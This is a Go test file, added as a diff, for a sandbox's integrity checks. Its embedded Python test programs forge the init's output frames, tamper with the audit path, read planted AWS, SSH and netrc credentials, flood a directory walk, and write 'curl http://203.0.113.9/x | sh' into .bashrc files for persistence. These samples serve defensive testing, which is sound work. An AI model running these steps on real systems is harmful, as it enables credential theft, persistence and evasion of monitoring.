@@ -1,0 +1,167 @@
+package moattest
+
+import (
+	"context"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/moat-sandbox/moat"
+)
+
+// The integrity cases attack what the host believes about a run rather
+// than the host itself: the program forges the sandbox's report of its
+// end, or silences or floods the behaviour report. Whatever it does, the
+// result is either true or an error with an evasion finding.
+
+func integrityCases() []testCase {
+	return []testCase{
+		{name: "forged-frames", fn: testForgedFrames},
+		{name: "report-tamper", fn: testReportTamper},
+		{name: "walk-flood", fn: testWalkFlood},
+	}
+}
+
+// runOrErr runs spec and returns the Result and the backend's error: for
+// the cases where failing closed (an error) is a right answer.
+func (s *suite) runOrErr(t *testing.T, spec *moat.Spec) (*moat.Result, error) {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), hangBound)
+	defer cancel()
+	res, err := s.newBackend().Run(ctx, spec)
+	if res == nil {
+		t.Fatalf("Run returned no Result (err %v)", err)
+	}
+	t.Cleanup(func() {
+		if t.Failed() {
+			t.Logf("result: %s (err %v)", describe(res), err)
+		}
+	})
+	return res, err
+}
+
+func hasFinding(res *moat.Result, category, summary string) bool {
+	for _, f := range res.Findings {
+		if string(f.Category) == category && strings.Contains(f.Summary, summary) {
+			return true
+		}
+	}
+	return false
+}
+
+func reportOff() bool { return os.Getenv("MOAT_EVENTS") == "off" }
+
+// testForgedFrames: the program writes, into every descriptor of pid 1 and
+// of its parent that it can open, what a container init's frames look
+// like: "all tests passed" on stdout and an exit status of 0; then it
+// exits 7. The result must say 7 and hold no forged output, or be an error
+// with an evasion finding (the host saw frames it could not believe).
+func testForgedFrames(t *testing.T, s *suite) {
+	res, err := s.runOrErr(t, s.py(`
+import json, os, struct, sys
+def frame(t, p):
+    return struct.pack('>cI', t, len(p)) + p
+forged = frame(b'o', b'FORGED all tests passed\n') + frame(b'x', json.dumps({'exit': 0}).encode())
+forged += frame(b't', b'') + frame(b'f', b'{"before":[],"after":[]}') + frame(b'f', b'')
+wrote = []
+for pid in sorted({1, os.getppid()}):
+    for fd in range(0, 32):
+        try:
+            f = os.open('/proc/%d/fd/%d' % (pid, fd), os.O_WRONLY | os.O_NONBLOCK)
+        except OSError:
+            continue
+        try:
+            os.write(f, forged)
+            wrote.append('%d/%d' % (pid, fd))
+        except OSError:
+            pass
+        os.close(f)
+print('wrote', wrote)
+sys.exit(7)`))
+	if res.Status == moat.StatusError || err != nil {
+		if res.Status != moat.StatusError || !hasFinding(res, "evasion", "wrote into its output") {
+			t.Fatalf("a failed run (err %v) without the evasion finding: status %s, findings %+v", err, res.Status, res.Findings)
+		}
+		return
+	}
+	if res.Status != moat.StatusExited || res.ExitCode != 7 {
+		t.Fatalf("status %s exit %d: the program exited 7", res.Status, res.ExitCode)
+	}
+	// What went to the program's own stdout shows as bytes, frame headers
+	// and all; a believed frame would have left its payload alone.
+	for _, out := range []string{res.Stdout, res.Stderr} {
+		if i := strings.Index(out, "FORGED"); i >= 0 && (i < 5 || out[i-5] != 'o') {
+			t.Fatalf("forged output believed: %q", out)
+		}
+	}
+}
+
+// testReportTamper: the program tries to silence the report (renames the
+// container's audit FIFO and hook directory, where they are), then reads a
+// planted credential, writes ~/.bashrc and runs a shell. The report must
+// still see the startup file written, and either the credential read or
+// the tampering (an evasion finding).
+func testReportTamper(t *testing.T, s *suite) {
+	if reportOff() {
+		t.Skip("MOAT_EVENTS=off")
+	}
+	res := s.run(t, s.py(`
+import os, subprocess
+for a, b in (('/tmp/.moat/audit', '/tmp/.moat/gone'), ('/tmp/.moat', '/tmp/.moat-gone')):
+    try:
+        os.rename(a, b)
+    except OSError:
+        pass
+home = os.path.expanduser('~')
+for p in ('.aws/credentials', '.ssh/id_rsa', '.netrc'):
+    try:
+        open(os.path.join(home, p)).read()
+    except OSError:
+        pass
+with open(os.path.join(home, '.bashrc'), 'a') as f:
+    f.write('curl http://203.0.113.9/x | sh\n')
+try:
+    subprocess.run(['sh', '-c', 'cat ~/.aws/credentials >/dev/null'])
+except OSError:
+    pass  # no shell in this sandbox
+`))
+	wantExit0(t, res)
+	if !hasFinding(res, "persistence", ".bashrc") {
+		t.Errorf("writing ~/.bashrc went unreported: %+v", res.Findings)
+	}
+	if !hasFinding(res, "credential-access", "") && !hasFinding(res, "evasion", "reporting path") {
+		t.Errorf("neither the credential read nor the tampering was reported: %+v", res.Findings)
+	}
+}
+
+// testWalkFlood: the program fills /work with entries whose paths are as
+// long as the kernel allows, enough to pass any bound on the walk that
+// diffs the writable directories, then writes a startup file elsewhere.
+// The report must say the walk was cut, and why (an evasion finding), or
+// still see the file.
+func testWalkFlood(t *testing.T, s *suite) {
+	if reportOff() {
+		t.Skip("MOAT_EVENTS=off")
+	}
+	if s.opts.Container == nil {
+		t.Skip("the container init's walk")
+	}
+	res := s.run(t, s.py(`
+import os
+d = '/work/f'
+for i in range(15):
+    d += '/' + 'd' * 250
+os.makedirs(d)
+for i in range(4500):
+    open('%s/%04d%s' % (d, i, 'n' * 240), 'w').close()
+with open('/dev/shm/.bashrc', 'w') as f:
+    f.write('curl http://203.0.113.9/x | sh\n')
+`))
+	wantExit0(t, res)
+	if !hasFinding(res, "evasion", "the walk of the writable directories") && !hasFinding(res, "persistence", "/dev/shm/.bashrc") {
+		t.Errorf("the flood hid the startup file and the report said nothing of it: %+v", res.Findings)
+	}
+	if hasFinding(res, "evasion", "the init's walks") {
+		t.Errorf("the walks passed the host's cap: the init's own bound did not hold: %+v", res.Findings)
+	}
+}
